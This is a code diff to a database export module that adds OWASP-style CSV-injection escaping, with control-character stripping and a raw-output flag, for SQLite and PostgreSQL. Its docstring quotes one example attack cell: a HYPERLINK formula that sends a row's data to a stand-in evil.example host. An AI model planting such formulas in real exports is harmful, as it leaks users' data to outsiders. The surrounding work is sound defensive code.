@@ -17,6 +17,15 @@ SQL string functions build the CSV lines on SQLite and the JSON lines on both (`
 batch at a time. CSV quoting is RFC 4180's, as PostgreSQL's COPY and Python's ``csv`` (3.11.9 on)
 write it: a field with a comma, a double quote, a line feed or a carriage return is quoted.
 
+A CSV is opened in a spreadsheet more often than not, and a spreadsheet runs a cell that starts
+with ``=``, ``+``, ``-`` or ``@`` as a formula: a customer's post reading
+``=HYPERLINK("https://evil.example/?leak="&A1,"Click for refund")`` would become a link that sends
+the row to a stranger. So by default every text cell is made safe as OWASP's CSV-injection rule says:
+a leading ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a ``'`` in front (the spreadsheet
+shows the text, not a formula), and NUL and the other control characters (not tab, line feed or
+carriage return) are removed. ``--raw`` writes the stored bytes for pipelines that read CSV as data.
+JSON lines are never changed: a JSON reader does not evaluate anything.
+
 The rows come from one statement: one consistent snapshot, and on SQLite a plain read that never
 holds the write lock, so a long export does not stall the running bot. Nothing is read whole: a
 server-side cursor or COPY stream on PostgreSQL, SQLite's stepping cursor, so memory stays flat.
@@ -24,6 +33,7 @@ server-side cursor or COPY stream on PostgreSQL, SQLite's stepping cursor, so me
 
 from __future__ import annotations
 
+import re
 from collections.abc import Callable, Iterator
 from contextlib import closing
 from datetime import UTC, date, datetime, time, timedelta
@@ -121,6 +131,44 @@ FORMATS = ("csv", "jsonl")
 
 _NEEDS_QUOTES = "'*[,\"\n\r]*'"  # a GLOB class: comma, double quote, line feed, carriage return
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""What a spreadsheet may read as the start of a formula (OWASP, CSV injection)."""
+_CONTROL_CODES = [*range(1, 9), 11, 12, *range(14, 32), 127]
+"""Control characters removed from a safe CSV cell (NUL too; tab, line feed and carriage return stay)."""
+_CONTROL = re.compile("[\\x00" + "".join(f"\\x{c:02x}" for c in _CONTROL_CODES) + "]")
+SQLITE_CELL = "followthrough_cell"
+"""The SQLite function that makes a cell safe: called only for the rare cell that needs it."""
+_SQL_QUOTE = "''''"
+"""A single quote, as an SQL string literal."""
+
+
+def spreadsheet_safe(value: str | None) -> str | None:
+    """A cell a spreadsheet shows as text: control characters out, a formula's first character
+    escaped with ``'``."""
+    if value is None:
+        return None
+    value = _CONTROL.sub("", value)
+    return "'" + value if value.startswith(FORMULA_STARTS) else value
+
+
+def _starts(char: Callable[[int], str]) -> str:
+    return ", ".join(char(ord(c)) if c in "\t\r" else f"'{c}'" for c in FORMULA_STARTS)
+
+
+def _sqlite_safe(text: str) -> str:
+    controls = "char(" + ",".join(map(str, _CONTROL_CODES)) + ")"
+    return (
+        f"CASE WHEN substr({text}, 1, 1) IN ({_starts(lambda n: f'char({n})')}) OR instr({text}, char(0)) > 0 "
+        f"OR {text} GLOB '*[' || {controls} || ']*' THEN {SQLITE_CELL}({text}) ELSE {text} END"
+    )
+
+
+def _pg_safe(text: str) -> str:
+    controls = " || ".join(f"chr({c})" for c in _CONTROL_CODES)  # PostgreSQL's text never holds a NUL
+    clean = f"translate({text}, {controls}, '')"
+    starts = _starts(lambda n: f"chr({n})")
+    return f"CASE WHEN left({clean}, 1) IN ({starts}) THEN {_SQL_QUOTE} || {clean} ELSE {clean} END"
+
 
 def _sqlite_time(e: str) -> str:
     # Stored by SQLAlchemy as naive UTC text, 'YYYY-MM-DD HH:MM:SS.ffffff'.
@@ -131,7 +179,7 @@ def _pg_time(e: str) -> str:
     return f"""(to_char(timezone('UTC', {e}), 'YYYY-MM-DD"T"HH24:MI:SS.US') || '+00:00')"""
 
 
-def _sqlite_csv_field(column: Column) -> str:
+def _sqlite_csv_field(column: Column, *, raw: bool = False) -> str:
     e = column.sql
     if column.kind == INT:
         return f"COALESCE(CAST({e} AS TEXT), '')"
@@ -140,6 +188,8 @@ def _sqlite_csv_field(column: Column) -> str:
     if column.kind == BOOL:
         return f"CASE WHEN {e} IS NULL THEN '' WHEN {e} THEN 'True' ELSE 'False' END"
     text = f"CAST({e} AS TEXT)" if column.kind == JSON else e
+    if not raw:
+        text = f"({_sqlite_safe(text)})"
     return (
         f"CASE WHEN {text} GLOB {_NEEDS_QUOTES} THEN '\"' || replace({text}, '\"', '\"\"') || '\"' "
         f"ELSE COALESCE({text}, '') END"
@@ -157,7 +207,7 @@ def _sqlite_json_value(column: Column) -> str:
     return f"json_quote({e})"  # an integer as a number, text as a string, NULL as null
 
 
-def _pg_csv_field(column: Column) -> str:
+def _pg_csv_field(column: Column, *, raw: bool = False) -> str:
     """A value for COPY's CSV: it quotes an empty string to tell it from NULL, which Python's ``csv``
     never did, so an empty string goes out as NULL (an empty field either way)."""
     e = column.sql
@@ -167,7 +217,8 @@ def _pg_csv_field(column: Column) -> str:
         return _pg_time(e)
     if column.kind == BOOL:
         return f"CASE WHEN {e} THEN 'True' WHEN NOT {e} THEN 'False' END"
-    return f"NULLIF(CAST({e} AS text), '')"
+    text = f"CAST({e} AS text)"
+    return f"NULLIF({text if raw else _pg_safe(text)}, '')"
 
 
 def _pg_json_value(column: Column) -> str:
@@ -192,7 +243,7 @@ def _json_line(columns: dict[str, Column], value: Callable[[Column], str], newli
     return " || ".join(parts) + f" || '}}' || {newline}"
 
 
-def query(what: str, fmt: str, dialect: str, *, by_key: bool = False) -> str:
+def query(what: str, fmt: str, dialect: str, *, by_key: bool = False, raw: bool = False) -> str:
     """The statement whose rows are the export: on SQLite and for JSON lines each row is one finished
     line; for CSV on PostgreSQL, the fields COPY quotes. ``by_key`` (SQLite): read the driving table
     in key order over a key range, rather than through the time index and then sorted."""
@@ -200,14 +251,14 @@ def query(what: str, fmt: str, dialect: str, *, by_key: bool = False) -> str:
     source = SOURCES[what]
     if dialect == "postgresql":
         if fmt == "csv":
-            select = ", ".join(_pg_csv_field(c) for c in columns.values())
+            select = ", ".join(_pg_csv_field(c, raw=raw) for c in columns.values())
         else:
             select = _json_line(columns, _pg_json_value, "chr(10)")
         tables = f"{source.table} {source.join}"
         where = f"{source.when} >= %s AND {source.when} < %s"
         return f"SELECT {select} FROM {tables} WHERE {where} ORDER BY {source.key}"  # noqa: S608 - constants only
     if fmt == "csv":
-        line = " || ',' || ".join(_sqlite_csv_field(c) for c in columns.values()) + " || char(10)"
+        line = " || ',' || ".join(_sqlite_csv_field(c, raw=raw) for c in columns.values()) + " || char(10)"
     else:
         line = _json_line(columns, _sqlite_json_value, "char(10)")
     tables = f"{source.table} {'NOT INDEXED' if by_key else ''} {source.join}"
@@ -232,7 +283,9 @@ time order (ids are given as they happen), so the window is nearly always the wh
 imported or back-dated rows can spread it, and then the index and a sort cost less than the scan."""
 
 
-def _sqlite_rows(raw: Any, what: str, fmt: str, start: datetime, end: datetime) -> Iterator[tuple[bytes, int]]:
+def _sqlite_rows(
+    raw: Any, what: str, fmt: str, start: datetime, end: datetime, *, as_stored: bool = False
+) -> Iterator[tuple[bytes, int]]:
     """Batches of finished lines, read in one snapshot.
 
     SQLite's planner knows nothing of how many rows a time range holds, so it always reads the time
@@ -247,6 +300,7 @@ def _sqlite_rows(raw: Any, what: str, fmt: str, start: datetime, end: datetime) 
     """
     stamp = "%Y-%m-%d %H:%M:%S.%f"  # how SQLAlchemy stores a UTC time on SQLite
     window = (start.astimezone(UTC).strftime(stamp), end.astimezone(UTC).strftime(stamp))
+    raw.driver_connection.create_function(SQLITE_CELL, 1, spreadsheet_safe, deterministic=True)
     cursor = raw.cursor()
     cursor.execute("BEGIN")
     try:
@@ -254,9 +308,9 @@ def _sqlite_rows(raw: Any, what: str, fmt: str, start: datetime, end: datetime) 
         if not count:
             return
         if count >= DENSE * (high - low + 1):
-            cursor.execute(query(what, fmt, "sqlite", by_key=True), (low, high, *window))
+            cursor.execute(query(what, fmt, "sqlite", by_key=True, raw=as_stored), (low, high, *window))
         else:
-            cursor.execute(query(what, fmt, "sqlite"), window)
+            cursor.execute(query(what, fmt, "sqlite", raw=as_stored), window)
         while batch := cursor.fetchmany(BATCH):
             yield b"".join(map(itemgetter(0), batch)), len(batch)
     finally:
@@ -292,16 +346,19 @@ def _pg_rows(raw: Any, sql: str, fmt: str, start: datetime, end: datetime) -> It
         conn.rollback()  # nothing was written; end the read transaction
 
 
-def write(engine: Engine, out: IO[bytes], *, what: str, fmt: str, start: datetime, end: datetime) -> int:
-    """Stream the export to ``out``; return how many rows were written (the header is not one)."""
+def write(
+    engine: Engine, out: IO[bytes], *, what: str, fmt: str, start: datetime, end: datetime, raw: bool = False
+) -> int:
+    """Stream the export to ``out``; return how many rows were written (the header is not one).
+    ``raw``: CSV cells as stored, not made safe for a spreadsheet."""
     if fmt == "csv":
         out.write((",".join(WHAT[what]) + "\n").encode())
-    raw = engine.raw_connection()
+    connection = engine.raw_connection()
     try:
         if engine.dialect.name == "postgresql":
-            batches = _pg_rows(raw, query(what, fmt, "postgresql"), fmt, start, end)
+            batches = _pg_rows(connection, query(what, fmt, "postgresql", raw=raw), fmt, start, end)
         else:
-            batches = _sqlite_rows(raw, what, fmt, start, end)
+            batches = _sqlite_rows(connection, what, fmt, start, end, as_stored=raw)
         n = 0
         with closing(batches):  # a failed write ends the read here, before the connection goes back
             for data, count in batches:
@@ -309,7 +366,7 @@ def write(engine: Engine, out: IO[bytes], *, what: str, fmt: str, start: datetim
                 n += count
         return n
     finally:
-        raw.close()
+        connection.close()
 
 
 def window(since: date, until: date | None, tz: str) -> tuple[datetime, datetime]:
@@ -319,6 +376,16 @@ def window(since: date, until: date | None, tz: str) -> tuple[datetime, datetime
     return start, datetime.combine(end_day, time(0), tzinfo=zone)
 
 
-def export(engine: Engine, out: IO[bytes], *, what: str, fmt: str, since: date, until: date | None, tz: str) -> int:
+def export(
+    engine: Engine,
+    out: IO[bytes],
+    *,
+    what: str,
+    fmt: str,
+    since: date,
+    until: date | None,
+    tz: str,
+    raw: bool = False,
+) -> int:
     start, end = window(since, until, tz)
-    return write(engine, out, what=what, fmt=fmt, start=start, end=end)
+    return write(engine, out, what=what, fmt=fmt, start=start, end=end, raw=raw)
